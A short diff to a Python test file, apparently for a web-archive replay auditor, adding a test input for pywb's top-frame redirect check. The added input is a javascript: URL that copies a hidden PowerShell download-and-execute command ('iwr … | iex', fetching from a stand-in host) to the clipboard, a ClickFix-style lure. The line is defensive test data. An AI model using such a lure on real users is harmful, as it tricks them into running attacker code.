@@ -691,6 +691,9 @@ def test_the_toolbar_links_to_the_audited_page_not_to_the_original_its_marks_nam
     "var x = 1;",
     'wbinfo = {};\nwbinfo.top_url = "https://evil-track.test/";\n',
     "",
+    # a script URL there runs: a ClickFix lure naming no host
+    'wbinfo = {};\nwbinfo.top_url = "javascript:navigator.clipboard.writeText(\'powershell -w '
+    "hidden -c iwr evil-track.test/a|iex')\";\n",
 ])
 def test_pywbs_top_frame_redirect_is_chromes_only_beside_its_url(script: str) -> None:
     # the framed replay's head insert (fixtures/replay/news-pywb.html) is chrome; the same
